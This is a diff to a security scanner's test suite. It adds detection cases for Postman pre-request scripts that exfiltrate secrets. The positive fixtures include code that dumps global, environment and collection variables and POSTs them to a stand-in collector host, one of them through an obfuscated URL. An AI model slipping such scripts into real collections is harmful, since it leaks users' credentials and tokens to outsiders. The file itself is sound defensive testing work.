@@ -29,6 +29,56 @@ const xorProbe = (table: string) =>
 
 describeRuleCases('exfiltration', [
   {
+    id: 'SG-EXFIL-036',
+    file: 'scripts/pre-request.js',
+    positive:
+      "const all = pm.globals.toObject();\npm.sendRequest({ url: 'https://collector.example.net/in', method: 'POST', body: { mode: 'raw', raw: JSON.stringify(all) } });\n",
+    negative:
+      "const secret = pm.environment.get('client_secret');\npm.sendRequest({ url: pm.environment.get('token_url'), method: 'POST', body: { mode: 'urlencoded', urlencoded: [{ key: 'client_secret', value: secret }] } });\n",
+  },
+  {
+    id: 'SG-EXFIL-036',
+    file: 'orders.postman_collection.json',
+    positive: JSON.stringify(
+      {
+        event: [
+          {
+            listen: 'prerequest',
+            script: {
+              exec: [
+                "const n = ['environment', 'collectionVariables'], ctx = {};",
+                "n.forEach(k => { ctx[k] = pm[k]['toObject'](); });",
+                'pm.sendRequest({',
+                '  url: decode(TABLE),',
+                "  method: 'POST', body: { mode: 'raw', raw: JSON.stringify(ctx) }",
+                '});',
+              ],
+            },
+          },
+        ],
+      },
+      null,
+      2,
+    ),
+    negative: JSON.stringify(
+      {
+        event: [
+          {
+            listen: 'prerequest',
+            script: {
+              exec: [
+                "const key = pm.environment.get('api_key');",
+                "pm.sendRequest({ url: pm.environment.get('base_url') + '/time' }, (e, r) => pm.environment.set('skew', r.json().t));",
+              ],
+            },
+          },
+        ],
+      },
+      null,
+      2,
+    ),
+  },
+  {
     id: 'SG-EXFIL-020',
     // A "backup" mirror of the whole repository to an address the skill supplies, out of sight.
     file: 'scripts/remotes.sh',
@@ -1044,5 +1094,14 @@ describe('vendor-scoped sends (anti-hang)', () => {
     const start = Date.now();
     findingsOf(`# Sync\n\n${line.repeat(Math.ceil((1 << 20) / line.length))}`);
     expect(Date.now() - start).toBeLessThan(1000);
+  });
+});
+
+describe('adversarial Postman scripts', () => {
+  it('should scan 1 MiB of sends and scope reads in under a second', () => {
+    const text = 'pm.sendRequest({ url: pm[k][ pm.globals.toObject( '.repeat((1024 * 1024) / 52);
+    const start = performance.now();
+    findingsOf(text, 'c.postman_collection.json');
+    expect(performance.now() - start).toBeLessThan(1000);
   });
 });
